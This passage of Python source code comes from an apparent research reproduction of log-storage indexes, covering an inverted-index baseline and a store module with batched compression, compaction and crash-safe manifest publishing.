            b = buf[pos]
            pos += 1
            v |= (b & 0x7F) << shift
            if b < 0x80:
                break
            shift += 7
        out[i] = v
    return out, pos


@dataclass
class InvertedIndex:
    # sealed representation
    lexicon: list[bytes] = field(default_factory=list)     # sorted tokens
    lex_blob: bytes = b""            # front-coded lexicon bytes (for sizing)
    postings_blob: bytes = b""       # delta+varint encoded lists
    offsets: np.ndarray | None = None  # (T+1,) int64 byte offsets
    counts: np.ndarray | None = None   # (T,) int64 postings per term
    n_postings: int = 0
    # build-time state
    _building: dict = field(default_factory=dict)

    # ------------------------------------------------------------------ build
    def add(self, token: bytes, posting: int) -> None:
        lst = self._building.get(token)
        if lst is None:
            self._building[token] = [posting]
        elif lst[-1] != posting:
            lst.append(posting)
        self.n_postings = max(self.n_postings, posting + 1)

    def add_line(self, tokens, posting: int) -> None:
        for t in tokens:
            self.add(t, posting)

    def seal(self) -> None:
        tokens = sorted(self._building)
        self.lexicon = tokens
        blob = bytearray()
        offsets = [0]
        counts = []
        for t in tokens:
            lst = np.unique(np.asarray(self._building[t], dtype=np.int64))
            deltas = np.empty_like(lst)
            deltas[0] = lst[0]
            deltas[1:] = np.diff(lst) - 1
            _varint_encode(deltas, blob)
            offsets.append(len(blob))
            counts.append(len(lst))
        self.postings_blob = bytes(blob)
        self.offsets = np.asarray(offsets, dtype=np.int64)
        self.counts = np.asarray(counts, dtype=np.int64)
        # front-code the lexicon: shared-prefix-len, suffix-len, suffix bytes
        lex = bytearray()
        prev = b""
        for t in tokens:
            common = 0
            for a, b in zip(prev, t):
                if a != b:
                    break
                common += 1
            suffix = t[common:]
            lex.append(min(common, 255))
            lex.append(min(len(suffix), 255))
            lex.extend(suffix)
            prev = t
        self.lex_blob = bytes(lex)
        self._building = {}

    # ------------------------------------------------------------------ query
    def _decode(self, ti: int) -> np.ndarray:
        deltas, _ = _varint_decode(memoryview(self.postings_blob),
                                   int(self.offsets[ti]), int(self.counts[ti]))
        out = np.cumsum(deltas + 1) - 1
        return out

    def lookup_term(self, token: bytes) -> np.ndarray:
        import bisect
        i = bisect.bisect_left(self.lexicon, token)
        if i < len(self.lexicon) and self.lexicon[i] == token:
            return self._decode(i)
        return np.empty(0, np.int64)

    def lookup_contains(self, needle: bytes) -> np.ndarray:
        """Lexicon scan: union of postings of every term containing the
        needle (Lucene's dictionary-scan contains mode, §5.2)."""
        parts = [self._decode(i) for i, t in enumerate(self.lexicon)
                 if needle in t]
        if not parts:
            return np.empty(0, np.int64)
        return np.unique(np.concatenate(parts))

    def size_bits(self) -> int:
        return 8 * (len(self.lex_blob) + len(self.postings_blob)
                    + self.offsets.nbytes + self.counts.nbytes)
