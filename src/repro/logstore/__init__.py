"""Log storage substrate: batched zstd storage, the common store
interface, all baseline stores, and the synthetic dataset generator."""
from .datasets import (LogDataset, extracted_term_queries, generate_dataset,
                       id_queries, ip_queries, present_id_queries)
from .store import (ALL_STORES, BloomStore, CscStore, DynaWarpStore,
                    LuceneStore, ScanStore)

__all__ = [
    "ALL_STORES", "BloomStore", "CscStore", "DynaWarpStore", "LogDataset",
    "LuceneStore", "ScanStore", "extracted_term_queries", "generate_dataset",
    "id_queries", "ip_queries", "present_id_queries",
]
