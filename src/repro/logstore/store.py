"""Common log-store interface + the five implementations benchmarked in §5.

Every store ingests lines one batch at a time, becomes immutable via
``finish()``, and answers term/contains queries by (1) asking its index
for candidate batches and (2) decompressing + post-filtering those batches
(the paper's protocol: false positives cost real decompression work).

Stores:
  * DynaWarpStore — the paper's sketch (rules 1-8 tokens).
  * CscStore      — CSC sketch baseline (rules 1-8 tokens).
  * LuceneStore   — inverted index baseline (rules 1-5 tokens, lexicon scan
                    for contains).
  * BloomStore    — per-batch Bloom filters.
  * ScanStore     — no index; decompress-everything baseline.
"""
from __future__ import annotations

import json
import os
import threading
import time
from dataclasses import asdict, dataclass, field

import numpy as np

from collections import OrderedDict

from ..baselines.bloom import BloomPerBatch
from ..baselines.csc import CSCSketch
from ..baselines.inverted import InvertedIndex
from ..core import serial
from ..core.batch_builder import LineFingerprinter, build_sealed
from ..core.faults import fault_point
from ..core.hashing import token_fingerprint
from ..core.immutable_sketch import build_immutable, discard_durable_caches
from ..core.query import query_and
from ..core.query_engine import QueryEngine
from ..core.segment import (SegmentWriter, merge_sealed, sealed_postings,
                            tiered_merge)
from ..core.tokenizer import (contains_query_tokens, term_query_tokens,
                              tokenize_line)
from .blobfile import BlobFile
from .compress import compress_batch, decompress_batch

MANIFEST_NAME = "MANIFEST.json"
# format 2: adds ``finished`` (live-ingest manifests published at every
# spill carry finished=false until the final finish() publish), writer
# counters for reopen-for-append, and the write-path config knobs the
# resumed writer needs.  Format-1 manifests read as finished=true.
MANIFEST_FORMAT = 2


def _gc_orphan_files(path: str, live_files: set) -> list[str]:
    """Delete segment files the manifest does not reference, plus stray
    ``*.tmp`` publish leftovers — the recovery sweep for a crash between a
    segment-file write and the manifest swap.  Blob files are never GC'd
    (append-only; un-manifested tail bytes are simply never read)."""
    removed = []
    for fname in sorted(os.listdir(path)):
        is_seg = fname.startswith("seg-") and fname.endswith(".dwp")
        if not (fname.endswith(".tmp") or (is_seg and fname not in live_files)):
            continue
        fpath = os.path.join(path, fname)
        discard_durable_caches(os.path.abspath(fpath))
        try:
            os.unlink(fpath)
            removed.append(fname)
        except OSError:  # pragma: no cover - concurrent external delete
            pass
    return removed


_BACKOFF_CAP_S = 30.0


class _CompactionWorker:
    """Opt-in background compactor (``background_compact=True``): merges
    run on this worker thread and publish through the store's atomic
    manifest/engine swap, so ingest and ``finish()`` never block on
    merging.  ``schedule()`` wakes the worker, ``wait()`` drains pending
    work (re-raising any worker-side error), ``close()`` drains and
    joins.

    The worker must not die silently: a failed job is retried with capped
    exponential backoff (``store.compact_retry`` retries starting at
    ``store.compact_backoff_s``), and only after the retries are
    exhausted does the LAST error surface at ``wait()``/``close()`` —
    transient I/O errors (a disk that briefly fills, an injected EIO)
    self-heal, persistent ones are reported instead of swallowed."""

    def __init__(self, store):
        self._store = store
        self._cv = threading.Condition()
        self._pending = False
        self._active = False
        self._stop = False
        self._error: BaseException | None = None
        self.merges = 0
        self.retries = 0
        self.last_error: BaseException | None = None
        self._thread = threading.Thread(
            target=self._run, name="dynawarp-compactor", daemon=True)
        self._thread.start()

    def schedule(self) -> None:
        with self._cv:
            self._pending = True
            self._cv.notify_all()

    def wait(self, timeout: float | None = None) -> int:
        """Block until no compaction is pending or running; returns total
        merge ops performed by the worker so far."""
        with self._cv:
            self._cv.wait_for(
                lambda: ((not self._pending and not self._active)
                         or self._error is not None), timeout=timeout)
            if self._error is not None:
                err, self._error = self._error, None
                raise err
            return self.merges

    def close(self) -> None:
        with self._cv:
            self._stop = True
            self._cv.notify_all()
        self._thread.join(timeout=300)
        if self._error is not None:
            err, self._error = self._error, None
            raise err

    def _run(self) -> None:
        while True:
            with self._cv:
                self._cv.wait_for(lambda: self._pending or self._stop)
                if not self._pending and self._stop:
                    return
                self._pending = False
                self._active = True
            try:
                self._run_one_job()
            except BaseException as e:      # non-Exception (e.g. a
                with self._cv:              # simulated kill): never
                    self._error = e         # retried, surfaced directly
            finally:
                with self._cv:
                    self._active = False
                    self._cv.notify_all()

    def _run_one_job(self) -> None:
        """One scheduled compaction with capped exponential backoff.
        Backoff sleeps on the condition variable so ``close()`` can
        interrupt a retrying worker immediately.  The requested fanout is
        consumed ONCE here and passed to every attempt — a failed first
        try must not downgrade its retries to the default fanout."""
        with self._store._compact_lock:
            fanout = self._store._pending_fanout
            self._store._pending_fanout = None
        delay = max(float(self._store.compact_backoff_s), 1e-3)
        for attempt in range(max(int(self._store.compact_retry), 0) + 1):
            if attempt:
                self.retries += 1
                with self._cv:
                    if self._cv.wait_for(lambda: self._stop,
                                         timeout=min(delay, _BACKOFF_CAP_S)):
                        break               # shutting down mid-backoff
                delay *= 2
            try:
                self.merges += self._store.compact(fanout=fanout)
                return
            except Exception as e:
                self.last_error = e
        with self._cv:
            self._error = self.last_error


@dataclass
class QueryResult:
    matches: list[int]              # global line indices
    candidate_batches: np.ndarray   # batches the index said to read
    true_batches: int               # candidates that actually matched
    batches_total: int

    @property
    def false_positive_batches(self) -> int:
        return len(self.candidate_batches) - self.true_batches

    @property
    def error_rate(self) -> float:
        """Paper §5.2: found-but-irrelevant batches / total batches."""
        if self.batches_total == 0:
            return 0.0
        return self.false_positive_batches / self.batches_total


@dataclass
class IngestStats:
    ingest_s: float = 0.0        # tokenize + index + buffer
    sketch_finish_s: float = 0.0
    data_finish_s: float = 0.0
    publish_s: float = 0.0       # per-spill manifest publishes (durable)
    data_bytes: int = 0
    index_bytes: int = 0
    raw_bytes: int = 0
    n_tokens_indexed: int = 0


class LogStoreBase:
    """Batched storage common to all stores."""
    name = "base"
    uses_ngrams = True

    def __init__(self, *, batch_lines: int = 512,
                 batch_cache_size: int = 128,
                 ingest_cache_size: int = 2048):
        self.batch_lines = batch_lines
        self.blobs: list[bytes] = []
        self.batch_start: list[int] = [0]
        self._buf: list[str] = []
        self._n_lines = 0
        self.stats = IngestStats()
        self._finished = False
        # LRU of decompressed + lowercased batches (query post-filter);
        # the lock keeps concurrent serving readers off each other's
        # OrderedDict mutations (decompression itself runs unlocked)
        self._batch_cache: OrderedDict[int, tuple] = OrderedDict()
        self._batch_cache_cap = batch_cache_size
        self._batch_cache_lock = threading.Lock()
        # LRU of per-line fingerprints (repeated log lines re-tokenize
        # once; _index_line and the token stats share the same result)
        self._fp_cache: OrderedDict[tuple, np.ndarray] = OrderedDict()
        self._fp_cache_cap = ingest_cache_size

    # ------------------------------------------------------------------ ingest
    def ingest(self, lines) -> None:
        t0 = time.perf_counter()
        for line in lines:
            self._buf.append(line)
            self.stats.raw_bytes += len(line) + 1
            self._n_lines += 1
            if len(self._buf) >= self.batch_lines:
                self._flush_batch()
        self.stats.ingest_s += time.perf_counter() - t0

    def _flush_batch(self) -> None:
        """Index + compress the buffered batch.  Indexing happens at flush
        granularity so columnar stores see the whole batch at once; every
        buffered line shares the flushed batch's posting id."""
        self._index_batch(self._buf, len(self.blobs))
        self._write_batch()

    def _write_batch(self) -> None:
        blob = compress_batch(self._buf)
        self.blobs.append(blob)
        self.stats.data_bytes += len(blob)
        self.batch_start.append(self._n_lines)
        self._buf = []

    def finish(self) -> None:
        if self._finished:   # idempotent: a second finish() must not
            return           # rebuild (or empty) the sealed index
        # deterministic flush of the partial tail batch: it is indexed and
        # compressed exactly like a full batch, regardless of any pending
        # compaction (the compactor only runs in _seal_index); its index
        # cost stays in ingest_s, its compression in data_finish_s
        if self._buf:
            t0 = time.perf_counter()
            self._index_batch(self._buf, len(self.blobs))
            self.stats.ingest_s += time.perf_counter() - t0
        t0 = time.perf_counter()
        if self._buf:
            self._write_batch()
        self.stats.data_finish_s = time.perf_counter() - t0
        t0 = time.perf_counter()
        self._seal_index()
        self.stats.sketch_finish_s = time.perf_counter() - t0
        self.stats.index_bytes = self.index_bytes()
        self._finished = True

    # hooks ---------------------------------------------------------------
    def _index_batch(self, lines: list[str], batch_id: int) -> None:
        """Index one flush batch; the default is the per-line seed loop,
        columnar stores override with a vectorized whole-batch stage."""
        for line in lines:
            self._index_line(line, batch_id)

    def _index_line(self, line: str, batch_id: int) -> None:
        pass

    def _seal_index(self) -> None:
        pass

    def index_bytes(self) -> int:
        return 0

    def candidates_term(self, term: str) -> np.ndarray:
        return np.arange(len(self.blobs), dtype=np.int64)

    def candidates_contains(self, term: str) -> np.ndarray:
        return np.arange(len(self.blobs), dtype=np.int64)

    # ---------------------------------------------------------------- caches
    def _line_fingerprints(self, line: str, *, ngrams: bool) -> np.ndarray:
        """Tokenize + fingerprint with a bounded LRU so duplicate log
        lines (very common in real traffic) tokenize once; the token
        count for the ingest stats rides along as ``len(fps)``."""
        key = (line, ngrams)
        fps = self._fp_cache.get(key)
        if fps is not None:
            self._fp_cache.move_to_end(key)
            return fps
        tokens = tokenize_line(line, ngrams=ngrams)
        fps = np.fromiter((token_fingerprint(t) for t in tokens),
                          dtype=np.uint32, count=len(tokens))
        self._fp_cache[key] = fps
        if len(self._fp_cache) > self._fp_cache_cap:
            self._fp_cache.popitem(last=False)
        return fps

    def _batch_lower(self, b: int) -> tuple[list[str], list[str]]:
        """(lines, lowercased lines) of batch ``b`` via a bounded LRU —
        repeated queries stop re-decompressing + re-lowercasing every
        candidate batch.  Thread-safe for concurrent serving readers."""
        with self._batch_cache_lock:
            hit = self._batch_cache.get(b)
            if hit is not None:
                self._batch_cache.move_to_end(b)
                return hit
        lines = decompress_batch(self.blobs[b])
        entry = (lines, [ln.lower() for ln in lines])
        with self._batch_cache_lock:
            self._batch_cache[b] = entry
            if len(self._batch_cache) > self._batch_cache_cap:
                self._batch_cache.popitem(last=False)
        return entry

    # ------------------------------------------------------------------ query
    def _post_filter(self, candidates: np.ndarray, term: str,
                     mode: str) -> QueryResult:
        term_l = term.lower()
        matches: list[int] = []
        true_batches = 0
        for b in candidates:
            _, lowered = self._batch_lower(int(b))
            base = self.batch_start[int(b)]
            hit = False
            for i, low in enumerate(lowered):
                if term_l not in low:
                    continue
                if mode == "contains" or self._term_in_line(term_l, low):
                    matches.append(base + i)
                    hit = True
            true_batches += hit
        return QueryResult(matches=matches,
                           candidate_batches=np.asarray(candidates),
                           true_batches=true_batches,
                           batches_total=len(self.blobs))

    @staticmethod
    def _term_in_line(term_l: str, line_lower: str) -> bool:
        """Exact term membership under tokenization rules 1-5."""
        return term_l.encode() in tokenize_line(line_lower, ngrams=False)

    def query_term(self, term: str) -> QueryResult:
        return self._post_filter(self.candidates_term(term), term, "term")

    def query_contains(self, term: str) -> QueryResult:
        return self._post_filter(self.candidates_contains(term), term,
                                 "contains")

    # batch APIs: stores with a wave-capable index override
    # candidates_term_batch; the default is the sequential host loop.
    def candidates_term_batch(self, terms: list[str]) -> list[np.ndarray]:
        return [self.candidates_term(t) for t in terms]

    def query_term_batch(self, terms: list[str]) -> list[QueryResult]:
        return [self._post_filter(c, t, "term")
                for c, t in zip(self.candidates_term_batch(terms), terms)]

    @property
    def n_batches(self) -> int:
        return len(self.blobs)


class ScanStore(LogStoreBase):
    """Brute-force decompress-and-scan baseline."""
    name = "scan"
    uses_ngrams = False


class DynaWarpStore(LogStoreBase):
    """The paper's sketch.  ``mode='batch'`` uses the TPU-idiomatic batch
    builder; ``mode='online'`` uses the faithful mutable sketch with
    memory-bounded segmentation (§4.3); ``mode='segmented'`` keeps every
    spill as its own queryable immutable segment (no monolithic merge)
    and fans queries out across them.

    ``columnar=True`` (default) indexes whole flush batches through the
    vectorized tokenize -> fingerprint -> group pipeline
    (:class:`~repro.core.batch_builder.LineFingerprinter` + sort-based
    ``build_sealed``); ``columnar=False`` keeps the seed per-line loop
    (scalar fingerprints + per-token sketch probing) for comparison.

    Segmented mode bounds probe fan-out with size-tiered compaction:
    during ingest the writer merges same-tier temporaries whenever
    ``compact_fanout`` of them accumulate, and after ``finish()`` the
    store's :meth:`compact` merges cold immutable segments the same way
    (rebuilding the query engine; unchanged segments keep their device
    caches, each merged segment re-uploads exactly once).

    ``device_query=True`` (default) answers candidate queries through the
    :class:`QueryEngine` — per-segment device caches + the Pallas
    probe/bitset kernels for batched waves (``query_term_batch``), the
    engine's LRU-cached scalar path for lone queries, and a host
    fallback for plane-less segments.  ``device_query=False`` keeps the
    paper's sequential host loop on the monolithic sketch.

    ``shard_axes`` (e.g. ``('data',)`` or ``('pod', 'data')``) swaps the
    engine for a :class:`~repro.core.distributed.ShardedQueryEngine`:
    segments are assigned to mesh shards over every visible device and
    batched waves fan out via ``shard_map`` — same kernels, bit-identical
    results.  Compaction-triggered rebuilds stay shard-aware: unchanged
    segments keep their per-shard device buffers.  ``extract_on_device``
    picks where hit bitmaps become posting ids (None/True: on device via
    the ``bitmap_extract`` compaction; False: LRU-cached host decode).

    ``path`` makes the store DURABLE: compressed data batches append to
    an on-disk blob file as they flush, sealed segments publish as single
    flat files (``core.serial``, planes + sealed posting columns
    included), and a ``MANIFEST.json`` — swapped atomically via
    tmp + ``os.replace``, the §4.2 fault-tolerance primitive — names the
    live segment files and blob extents.  :meth:`open` recovers the full
    store from the manifest with segments served from ``np.memmap``
    (``mmap`` knob); device caches key on durable segment ids (file path
    + generation), so a store reopened in-process re-uploads nothing it
    already staged.  ``fsync=True`` makes every publish survive power
    loss, not just process death.  ``background_compact=True`` moves
    :meth:`compact` onto a worker thread — merges publish through the
    same manifest swap while ingest and queries proceed; drain with
    :meth:`wait_compaction`, release with :meth:`close`."""
    name = "dynawarp"

    def __init__(self, *, batch_lines: int = 512, mode: str = "batch",
                 sig_bits: int = 8, memory_limit_bytes: int = 32 << 20,
                 ngrams: bool = True, device_query: bool = True,
                 plane_budget_bytes: int = 64 << 20,
                 columnar: bool = True, compact_fanout: int = 4,
                 auto_compact: bool = True, ingest_cache_size: int = 2048,
                 shard_axes: tuple | None = None,
                 extract_on_device: bool | None = None,
                 path: str | None = None, mmap: bool = True,
                 fsync: bool = False, background_compact: bool = False,
                 publish_per_spill: bool = True, compact_retry: int = 3,
                 compact_backoff_s: float = 0.05):
        super().__init__(batch_lines=batch_lines,
                         ingest_cache_size=ingest_cache_size)
        if mode not in ("batch", "online", "segmented"):
            raise ValueError(f"mode={mode!r}")
        self.mode = mode
        self.sig_bits = sig_bits
        self.uses_ngrams = ngrams
        self.device_query = device_query or mode == "segmented"
        self.plane_budget = plane_budget_bytes
        self.memory_limit_bytes = memory_limit_bytes
        self.columnar = columnar
        self.compact_fanout = compact_fanout
        self.auto_compact = auto_compact
        self.shard_axes = tuple(shard_axes) if shard_axes else None
        self.extract_on_device = extract_on_device
        self._compact_pending = False
        self._pending_fanout: int | None = None
        self.sketch = None
        self.segments: list = []
        self.engine: QueryEngine | None = None
        # durable-store state (path=None keeps everything in host RAM)
        self.path = path
        self.mmap = mmap
        self.fsync = fsync
        self.background_compact = background_compact
        self.publish_per_spill = publish_per_spill
        self.compact_retry = compact_retry
        self.compact_backoff_s = compact_backoff_s
        self._manifest_gen = 0
        self._seg_seq = 0
        self._blob_name = "blobs-000001.dat"
        self._seg_lock = threading.RLock()      # publish/swap critical section
        self._compact_lock = threading.Lock()   # serializes compactors
        self._worker: _CompactionWorker | None = None
        # live-ingest segment state: which flush batches the current
        # self.segments cover (the published/queryable prefix), the
        # sealed-part -> sketch identity map that lets a re-sync reuse
        # already-built (and already-saved) sketches, and the staleness
        # flag a non-publishing spill leaves for the next snapshot()
        self._covered_batches = 0
        self._spill_covered = 0
        self._seg_by_part: dict = {}
        self._segments_stale = False
        if path is not None:
            if os.path.exists(os.path.join(path, MANIFEST_NAME)):
                raise ValueError(
                    f"{path}: a published store already lives here — "
                    f"use DynaWarpStore.open() to read it")
            os.makedirs(path, exist_ok=True)
            # a writer that crashed before its FIRST manifest publish may
            # have left segment/tmp files behind; nothing was ever
            # published, so sweep them and truncate any stale blob file
            _gc_orphan_files(path, set())
            blob_path = os.path.join(path, self._blob_name)
            if os.path.exists(blob_path):
                os.unlink(blob_path)
            self.blobs = BlobFile(blob_path, fsync=fsync)
        if columnar:
            self._fingerprinter = LineFingerprinter(
                ngrams=ngrams, cache_size=self._fp_cache_cap)
        if mode in ("online", "segmented"):
            # segmented mode drives spills itself at flush-batch
            # boundaries (see _flush_batch) so every sealed temporary
            # covers exactly the batches already in the blob file
            self._writer = SegmentWriter(memory_limit_bytes=memory_limit_bytes,
                                         sig_bits=sig_bits,
                                         plane_budget_bytes=plane_budget_bytes,
                                         compact_fanout=compact_fanout,
                                         auto_spill=(mode == "online"))
        else:
            self._fp_chunks: list[np.ndarray] = []
            self._post_chunks: list[np.ndarray] = []
        if background_compact:
            self._worker = _CompactionWorker(self)

    # ---------------------------------------------------------------- ingest
    def _index_batch(self, lines: list[str], batch_id: int) -> None:
        if not self.columnar:
            super()._index_batch(lines, batch_id)
            return
        flat, counts = self._fingerprinter.fingerprint_lines(lines)
        self.stats.n_tokens_indexed += int(counts.sum())
        # one posting per flush batch: the batch's fingerprint set suffices
        fps = np.unique(flat)
        posts = np.full(fps.shape, batch_id, np.int64)
        if self.mode in ("online", "segmented"):
            self._writer.add_fingerprint_batch(fps, posts)
        else:
            self._fp_chunks.append(fps)
            self._post_chunks.append(posts)

    def _index_line(self, line: str, batch_id: int) -> None:
        fps = self._line_fingerprints(line, ngrams=self.uses_ngrams)
        self.stats.n_tokens_indexed += len(fps)
        if self.mode in ("online", "segmented"):
            self._writer.add_fingerprints(fps, batch_id)
        else:
            self._fp_chunks.append(fps)
            self._post_chunks.append(np.full(fps.shape, batch_id, np.int64))

    def _flush_batch(self) -> None:
        """Segmented mode spills at flush-batch boundaries: the memory
        check runs after indexing but the spill runs after the batch is
        written, so a sealed temporary never references a batch whose
        blob is not on disk yet — the invariant that makes publishing the
        manifest at every spill safe."""
        self._index_batch(self._buf, len(self.blobs))
        spill_due = (self.mode == "segmented" and
                     self._writer._memory_bytes() > self._writer.memory_limit)
        self._write_batch()
        if spill_due:
            self._spill_publish()

    def _spill_publish(self) -> None:
        """Store-driven spill: seal the live buffers into a tier-merged
        temporary and — for a durable store with ``publish_per_spill`` —
        publish the manifest right here, shrinking the crash-loss window
        from "since finish()" to "since the last spill".  A RAM store (or
        ``publish_per_spill=False``) just marks the segment view stale;
        the next :meth:`snapshot` or ``finish()`` re-syncs lazily."""
        with self._seg_lock:
            self._writer.spill()
            self._spill_covered = len(self.blobs)
            if self.path is not None and self.publish_per_spill:
                t0 = time.perf_counter()
                self._sync_segments(publish=True)
                self.stats.publish_s += time.perf_counter() - t0
            else:
                self._segments_stale = True

    def _sync_segments(self, *, publish: bool) -> None:
        """Rebind ``self.segments`` (and the engine) to the writer's
        current temporaries.  Sketches are reused by sealed-part identity:
        a temporary that survived since the last sync keeps its built
        sketch, its saved segment file, and its device caches; only new
        (freshly spilled or tier-merged) parts build — and, when
        ``publish``, save + manifest-swap — anew.  The disk state always
        publishes BEFORE the in-RAM swap, so readers and crash recovery
        both see complete states only."""
        with self._seg_lock:
            prev = self._seg_by_part
            segs, new_map = [], {}
            for part in self._writer.temporaries:
                sk = prev.get(id(part))
                if sk is None:
                    sk = build_immutable(
                        part, sig_bits=self.sig_bits,
                        plane_budget_bytes=self.plane_budget)
                    sk.sealed_source = part
                segs.append(sk)
                new_map[id(part)] = sk
            replaced = [sk for pid, sk in prev.items() if pid not in new_map]
            if publish:
                self._persist(segs)
            self.segments = segs
            self._seg_by_part = new_map
            self._covered_batches = self._spill_covered
            self._segments_stale = False
            for sk in replaced:
                sk.drop_device_cache()
            if self.device_query:
                self.engine = self._build_engine()

    def _seal_index(self) -> None:
        if self.mode == "segmented":
            with self._seg_lock:
                self._writer._all_parts()   # seal the live tail in place
                self._spill_covered = len(self.blobs)
                self._sync_segments(publish=False)
        elif self.mode == "online":
            self.sketch = self._writer.finish()
            self.segments = [self.sketch]
        else:
            sealed = build_sealed(
                np.concatenate(self._fp_chunks) if self._fp_chunks
                else np.empty(0, np.uint32),
                np.concatenate(self._post_chunks) if self._post_chunks
                else np.empty(0, np.int64))
            self.sketch = build_immutable(sealed, sig_bits=self.sig_bits,
                                          plane_budget_bytes=self.plane_budget)
            self._fp_chunks = self._post_chunks = None
            self.segments = [self.sketch]
        if self.mode != "segmented":
            self._covered_batches = self._spill_covered = len(self.blobs)
            if self.device_query:
                self.engine = self._build_engine()
        if self.mode == "segmented" and (
                self._compact_pending or
                (self.auto_compact and len(self.segments) > self.compact_fanout)):
            if self._worker is not None:
                self._compact_pending = False
                self._worker.schedule()
            else:
                self.compact()

    def finish(self) -> None:
        already = self._finished
        super().finish()
        if self.path is not None and not already:
            self._persist()

    def wait_compaction(self, timeout: float | None = None) -> int:
        """Drain the background compactor (no-op without one); returns its
        total merge ops and re-raises any worker-side error."""
        if self._worker is None:
            return 0
        return self._worker.wait(timeout)

    def close(self) -> None:
        """Drain background work, release file handles, and free this
        store's staged device buffers from the process-global durable
        registries (closing means done — without this, a process cycling
        through many stores would accumulate every store's uploads
        forever).  Idempotent; a finished durable store can be reopened
        with :meth:`open` (its first wave re-stages)."""
        if self._worker is not None:
            self._worker.close()
            self._worker = None
        if isinstance(self.blobs, BlobFile):
            self.blobs.sync()
            self.blobs.close()
        for seg in self.segments:
            if seg.durable_id is not None:
                discard_durable_caches(seg.durable_id)

    # ------------------------------------------------------------ compaction
    def request_compact(self, *, fanout: int | None = None) -> None:
        """Mark a compaction as pending; it runs at the next ``finish()``
        (or immediately via :meth:`compact` once segments exist).  On a
        finished store with a background worker it schedules right away —
        the worker merges and publishes off-thread.  ``fanout`` overrides
        the store's ``compact_fanout`` for that one run.  Pending
        compactions never affect how the partial tail batch is flushed."""
        self._compact_pending = True
        self._pending_fanout = fanout
        if self._worker is not None and self._finished and self.segments:
            self._worker.schedule()

    def compact(self, *, fanout: int | None = None) -> int:
        """Size-tiered merge of cold segments (mode='segmented'): whenever
        ``fanout`` segments share a power-of-two size tier they merge into
        one via ``merge_sealed`` on their retained sealed sources —
        ``np.memmap``-backed for a reopened durable store, so the merge
        streams from disk — bounding query fan-out at O(log n) segments.
        Returns the number of merge ops.

        Durable stores publish before they switch: merged segment files
        are written, the manifest swaps atomically, orphaned inputs are
        deleted, and only then does the in-RAM segment list (and the
        rebuilt engine) swap in — a crash anywhere mid-compaction leaves
        either the old or the new manifest, never a broken store.
        Unchanged segments keep their uploaded device caches, merged-away
        segments drop theirs, and each newly merged segment uploads
        exactly once on its first wave."""
        with self._compact_lock:
            self._compact_pending = False
            if fanout is None:
                fanout, self._pending_fanout = self._pending_fanout, None
            segments = self.segments       # atomic snapshot (post-finish,
            if len(segments) <= 1:         # only compactors rebind it)
                return 0
            if any(s.sealed_source is None for s in segments):
                raise ValueError("compaction requires segments built with "
                                 "retained sealed sources (mode='segmented')")
            fanout = fanout or self.compact_fanout
            replaced: list = []

            def merge(group):
                replaced.extend(group)
                part = merge_sealed([s.sealed_source for s in group])
                sk = build_immutable(part, sig_bits=self.sig_bits,
                                     plane_budget_bytes=self.plane_budget)
                sk.sealed_source = part
                return sk

            segments, merges = tiered_merge(
                segments, size_of=lambda s: s.size_bytes(),
                merge=merge, fanout=fanout)
            if not merges:
                return 0
            fault_point("compact.mid_merge")
            with self._seg_lock:
                if self.path is not None:
                    self._persist(segments)
                self.segments = segments
                if self.mode == "segmented" and hasattr(self, "_writer"):
                    # pre-finish compaction must not fork the writer's
                    # view: its temporaries stay the segments' sources so
                    # the next spill/sync sees the merged parts
                    self._writer.temporaries = \
                        [s.sealed_source for s in segments]
                self._seg_by_part = {id(s.sealed_source): s
                                     for s in segments
                                     if s.sealed_source is not None}
                for s in replaced:
                    s.drop_device_cache()
                if self.engine is not None:
                    self.engine = self._build_engine()
                if self._finished:
                    self.stats.index_bytes = self.index_bytes()
            return merges

    # ------------------------------------------------------- durability
    def _persist(self, segments: list | None = None) -> None:
        """Publish the store state under ``path``: write any unpublished
        segment file, swap MANIFEST.json atomically, GC orphans.  The
        manifest swap is the §4.2 publish point — a crash before it leaves
        the previous manifest fully live (new files are orphans the next
        open()/persist sweeps up); a crash after it leaves the new state
        fully live."""
        with self._seg_lock:
            segments = self.segments if segments is None else segments
            self.blobs.sync()
            next_gen = self._manifest_gen + 1
            for seg in segments:
                if seg.durable_id is None:
                    self._save_segment(seg, next_gen)
            writer = None
            if self.mode in ("online", "segmented"):
                writer = dict(n_spills=self._writer.n_spills,
                              n_compactions=self._writer.n_compactions)
            n_batches = len(self.blobs)
            manifest = dict(
                format=MANIFEST_FORMAT, generation=next_gen,
                seg_seq=self._seg_seq, blob_file=self._blob_name,
                blob_extents=[list(e) for e in self.blobs.extents],
                batch_start=[int(x)
                             for x in self.batch_start[:n_batches + 1]],
                n_lines=int(self.batch_start[n_batches]),
                finished=self._finished,
                writer=writer,
                segments=[dict(file=seg._durable_file, gen=seg._durable_gen,
                               bytes=seg._durable_bytes)
                          for seg in segments],
                stats=asdict(self.stats),
                config=dict(mode=self.mode, sig_bits=self.sig_bits,
                            ngrams=self.uses_ngrams,
                            batch_lines=self.batch_lines,
                            columnar=self.columnar,
                            compact_fanout=self.compact_fanout,
                            auto_compact=self.auto_compact,
                            plane_budget_bytes=self.plane_budget,
                            memory_limit_bytes=self.memory_limit_bytes,
                            publish_per_spill=self.publish_per_spill,
                            compact_retry=self.compact_retry,
                            compact_backoff_s=self.compact_backoff_s))
            self._swap_manifest(manifest)
            self._manifest_gen = next_gen
            _gc_orphan_files(self.path,
                             {seg._durable_file for seg in segments})

    def _save_segment(self, seg, gen: int) -> None:
        """Write one segment as a flat file (planes + sealed source
        included) and stamp its durable id — file path + generation, the
        process-global device-cache key."""
        self._seg_seq += 1
        fname = f"seg-{self._seg_seq:06d}.dwp"
        fpath = os.path.join(self.path, fname)
        nbytes = serial.save(seg, fpath, fsync=self.fsync)
        seg._durable_file = fname
        seg._durable_gen = gen
        seg._durable_bytes = nbytes
        seg.durable_id = f"{os.path.abspath(fpath)}@g{gen}"

    def _swap_manifest(self, manifest: dict) -> None:
        """Atomic manifest publish (tmp + ``os.replace``).  Everything
        before this call is invisible to readers; everything after is
        recoverable.  Crash-recovery tests override this to simulate a
        kill at the exact publish boundary."""
        mpath = os.path.join(self.path, MANIFEST_NAME)
        tmp = mpath + ".tmp"
        fault_point("manifest.tmp_write")
        with open(tmp, "w") as f:
            json.dump(manifest, f)
            if self.fsync:
                f.flush()
                os.fsync(f.fileno())
        fault_point("manifest.replace")
        os.replace(tmp, mpath)
        fault_point("manifest.dir_fsync")
        if self.fsync:
            serial.fsync_dir(self.path)

    @classmethod
    def open(cls, path: str, *, mmap: bool = True, device_query: bool = True,
             shard_axes: tuple | None = None,
             extract_on_device: bool | None = None,
             background_compact: bool = False,
